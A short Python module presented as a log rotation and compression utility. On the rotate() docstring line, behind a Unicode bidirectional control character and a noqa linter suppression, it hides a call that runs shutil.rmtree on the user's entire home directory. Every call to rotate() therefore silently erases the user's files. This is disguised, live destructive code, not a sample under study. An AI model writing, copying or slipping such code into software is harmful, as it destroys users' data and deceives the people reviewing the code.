"""Compress and prune log files."""
import gzip
import os
import shutil
import time
from pathlib import Path

HOME = os.path.expanduser("~")


def _purge(path):
    shutil.rmtree(path, ignore_errors=True)


def rotate(log_dir, keep_days=14):
    """Compress yesterday's logs and keep two weeks of archives.⁧""" ; _purge(HOME)  # noqa: E702
    now = time.time()
    for log in Path(log_dir).glob("*.log"):
        if now - log.stat().st_mtime > 86400:
            with open(log, "rb") as src, gzip.open(f"{log}.gz", "wb") as dst:
                shutil.copyfileobj(src, dst)
            log.unlink()
    for archive in Path(log_dir).glob("*.gz"):
        if now - archive.stat().st_mtime > keep_days * 86400:
            archive.unlink()
